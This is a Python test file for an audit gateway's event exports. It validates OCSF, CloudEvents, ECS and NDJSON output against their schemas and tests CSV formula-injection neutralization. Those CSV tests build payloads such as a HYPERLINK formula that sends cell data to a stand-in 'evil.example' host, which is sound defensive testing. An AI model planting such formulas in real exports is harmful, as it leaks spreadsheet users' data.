"""Each format against its published schema, by other libraries; and the neutralization of CSV."""

import csv
import io
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema_rs
import pytest
from cloudevents.core.formats.json import JSONFormat
from cloudevents.core.v1.event import CloudEvent
from ocsf.v1_7_0.events import EntityManagement
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from app.api.exports import FORMATS, ecs, ocsf
from app.api.exports.csv import COLUMNS, neutral, to_rows
from app.api.schemas import EventPage
from app.domain.event import Actor, Delivery, Envelope, Event, Recipient, Target
from app.providers.registry import find_providers
from tests.api.conftest import opened
from tests.api.gateways import app_over, events_of
from tests.api.shapes import assert_shape
from tests.worlds import SubnotoOptions, TaktikalOptions, World, served_world, window

DOCUMENT = (Path(__file__).parents[2] / "docs" / "reference" / "formats.md").read_text(encoding="utf-8")
TYPES = sorted(
    {row.type for provider in find_providers().values() for row in provider.mapping} | {"unknown", "a.new_one"}
)


def events() -> Iterator[Event]:
    """Yield events of every type, with all optional fields and with none."""
    actors = [
        Actor("system"), Actor("user", "u1", "Anna", "anna@example.com"), Actor("recipient", email="x@example.com"),
    ]  # fmt: skip
    envelopes = [None, Envelope("e1"), Envelope("e1", "lease.pdf", "completed", "o@example.com", "f", "w", "s")]
    recipients = [
        None, Recipient(), Recipient("r1", "Jonas", "j@example.com", "+3545812345", "0101302989", "qualified"),
    ]  # fmt: skip
    deliveries = [None, Delivery(), Delivery("sms", "delivered", "invitation")]
    targets = [Target("webhook"), None, Target("member", "m1", "Maria", "maria@example.com")]
    combinations = zip(actors, envelopes, recipients, deliveries, targets, strict=True)
    for type_, (actor, envelope, recipient, delivery, target) in itertools.product(TYPES, combinations):
        for outcome, raw in (("success", None), ("failure", {"a": [1, "\ud83d"]}), (None, "text"), ("odd", 0)):
            yield Event(
                id="AabC-_", source="my source/é", provider="acme", type=type_, category="team", outcome=outcome,
                provider_type="X:y", provider_id=None if raw else "7", occurred_at="2019-11-08T11:06:01.560789Z",
                description=None if raw else "Signed.", actor=actor, envelope=envelope, recipient=recipient,
                delivery=delivery, target=target, user_agent=None if raw else "Mozilla/5.0",
                data={"deep": [{"x": None}]} if raw else {}, raw=raw,
            )  # fmt: skip


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with served_world(TaktikalOptions(events=150), SubnotoOptions(events=150)) as found:
        yield found


def test_ndjson_has_every_field_of_an_event() -> None:
    for event in events():
        written = json.loads(FORMATS["ndjson"].lines([event]))
        assert list(written) == list(Event.__struct_fields__)
        if is_utf8(written):
            assert_shape(written, Event)


def is_utf8(event: dict[str, Any]) -> bool:
    """Return False for a lone surrogate, which the validator does not accept."""
    try:
        return bool(json.dumps(event, ensure_ascii=False).encode())
    except UnicodeEncodeError:
        return False


def test_a_batch_is_encoded_like_its_single_events() -> None:
    ndjson, found = FORMATS["ndjson"], list(events())
    valid_utf8 = [event for event in found if event.raw is None]
    for batch in (found, valid_utf8, []):  # with a lone surrogate, without one, and empty
        assert ndjson.lines(batch) == b"".join(ndjson.lines([event]) for event in batch)
    assert len(found) > len(valid_utf8) > 0


OCSF = jsonschema_rs.validator_for(
    OcsfJsonSchemaEmbedded(get_ocsf_schema(version=ocsf.VERSION)).get_class_schema(
        class_name="entity_management", profiles=[]
    )
)


def check_ocsf(found: dict[str, Any]) -> None:
    OCSF.validate(found)
    model = EntityManagement.model_validate(found)
    assert (model.class_uid, model.type_uid) == (3004, 300400 + found["activity_id"])


def check_cloudevent(found: dict[str, Any]) -> None:
    event = JSONFormat().read(CloudEvent, json.dumps(found).encode())
    assert event.get_specversion() == "1.0"
    assert event.get_id() == found["data"]["id"]
    assert event.get_time() is not None
    assert event.get_data() == found["data"]
    # Section 3.1: lower case letters and digits; every attribute of a simple type.
    for name, value in found.items():
        assert name.isalnum(), name
        assert name.islower(), name
        assert name == "data" or isinstance(value, str)


#: The fields in use and their types, from the ECS 8.17 field reference.
ECS_FIELDS = {
    "@timestamp": str, "message": str, "ecs.version": str,
    "event.id": str, "event.kind": str, "event.category": list, "event.type": list, "event.action": str,
    "event.code": str, "event.outcome": str, "event.provider": str, "event.module": str, "event.dataset": str,
    "event.original": str,
    "observer.vendor": str, "observer.name": str,
    "user.id": str, "user.name": str, "user.full_name": str, "user.email": str,
    "related.user": list, "file.name": str, "user_agent.original": str,
}  # fmt: skip
#: Expected `event.type` values by `event.category`, from the same reference.
ECS_TYPES = {
    "file": {"access", "change", "creation", "deletion", "info"},
    "iam": {"admin", "change", "creation", "deletion", "group", "info", "user"},
    "configuration": {"access", "change", "creation", "deletion", "info"},
    "email": {"info"},
}


def check_ecs(found: dict[str, Any]) -> None:
    own = found.pop("audit_gateway")
    assert isinstance(own["actor_kind"], str)
    for path, value in flat(found):
        assert type(value) is ECS_FIELDS[path], path
        assert value, path
    event = found["event"]
    assert event["kind"] == "event"
    assert event["outcome"] in ("success", "failure", "unknown")
    for category in event.get("category", []):
        assert set(event["type"]) <= ECS_TYPES[category]


def flat(value: dict[str, Any], path: str = "") -> Iterator[tuple[str, Any]]:
    for name, item in value.items():
        if isinstance(item, dict):
            yield from flat(item, f"{path}{name}.")
        else:
            yield f"{path}{name}", item


CHECKS = {"ocsf": check_ocsf, "cloudevents": check_cloudevent, "ecs": check_ecs}


@pytest.mark.parametrize("form", CHECKS)
def test_every_type_fits_the_published_schema(form: str) -> None:
    for event in events():
        found = json.loads(FORMATS[form].lines([event]))
        assert form != "cloudevents" or found["source"] == "/sources/my%20source%2F%C3%A9"
        CHECKS[form](found)


@pytest.mark.parametrize("include", [{}, {"include": "raw"}], ids=["plain", "raw"])
async def test_exports_of_real_accounts_fit_the_published_schemas(world: World, include: dict[str, str]) -> None:
    query = {**window(world, 61), **include}
    async with opened(app_over(world)) as client:
        page = (await client.get("/events", params={**query, "limit": "1000"})).json()
        exports = {
            form: (await client.get("/events/export", params={**query, "format": form})).content
            for form in ("csv", *CHECKS)
        }
    assert_shape(page, EventPage)
    for form, check in CHECKS.items():
        found = events_of(form, exports[form])
        assert len(found) == len(page["data"]) == len(world.truth())
        for event in found:
            assert form != "ocsf" or ("raw_data" in event) == bool(include)
            check(event)
    lines = list(csv.reader(io.StringIO(exports["csv"].decode(), newline=""), strict=True))
    assert lines[0] == list(COLUMNS)
    assert {len(line) for line in lines} == {len(COLUMNS)}
    assert exports["csv"].count(b"\r\n") >= len(lines)


INVISIBLE = ["", " ", "\t", "\r", "\n", "\0", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u202e", " \t ", "\u00ad"]
STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66"]


def test_csv_formulas_get_an_apostrophe() -> None:
    """So do values that could become a formula later, and values that begin with an apostrophe; no others do."""
    for before, start in itertools.product(INVISIBLE, STARTS):
        value = f'{before}{start}HYPERLINK("https://evil.example?"&A1)'
        assert neutral(value) == f"'{value}"
    for value in ("\tx", "\rx", "\nx", "\0x", "'=1", "'quoted'"):
        assert neutral(value) == f"'{value}"
    for value in ("", "Anna", "anna+x@example.com", "2026-05-01T00:00:00Z", "***", "a=b", " x", '{"a":1}'):
        assert neutral(value) == value


def test_removing_one_apostrophe_restores_every_value() -> None:
    for before, start in itertools.product([*INVISIBLE, "'", "''"], [*STARTS, "x", ""]):
        value = f"{before}{start}1"
        assert neutral(value).removeprefix("'") == value


def test_every_row_is_rfc_4180_and_every_column_neutral() -> None:
    evil = '=1+1,"\r\n;x'
    event = next(events())
    for name in COLUMNS:
        part, _, field = name.partition("_")
        if part in ("actor", "envelope", "recipient", "delivery", "target"):
            event.envelope, event.recipient = Envelope("e"), Recipient()
            event.delivery, event.target = Delivery(), Target("webhook")
            setattr(getattr(event, part), field, evil)
        elif name not in ("id", "data", "raw"):
            setattr(event, name, evil)
        row = to_rows([event])
        assert row.endswith(b"\r\n")
        (read,) = csv.reader(io.StringIO(row.decode(), newline=""))
        assert len(read) == len(COLUMNS)
        for value in read:
            assert not value.startswith(("=", "+", "-", "@"))
        if name not in ("id", "data", "raw"):
            assert read[list(COLUMNS).index(name)] == f"'{evil}"
            event = next(events())


def test_csv_escapes_a_lone_surrogate_like_json() -> None:
    event = next(events())
    event.description = "\ud83d"
    assert b",\\ud83d," in to_rows([event])


def test_every_mapping_is_documented() -> None:
    for column in COLUMNS:
        assert f"`{column}`" in DOCUMENT, column
    for verb, (number, name) in ocsf.ACTIVITIES.items():
        assert f"| `{verb}` | {number} {name} |" in DOCUMENT, verb
    for subject, (category, also) in ecs.CATEGORIES.items():
        assert f"| `{subject}` | {category} | {', '.join(also)} |".replace("|  |", "| |") in DOCUMENT, subject
    for verb, kind in ecs.TYPES.items():
        assert f"| `{verb}` | {kind} |" in DOCUMENT, verb
    lines = [json.loads(FORMATS[form].lines([event])) for event in events() for form in ("ocsf", "ecs")]
    for path in {path for line in lines for path, _ in flat(line)}:
        shown = path if not path.startswith(("unmapped.", "audit_gateway.")) else ".".join(path.split(".")[:2])
        assert f"`{shown}`" in DOCUMENT, shown
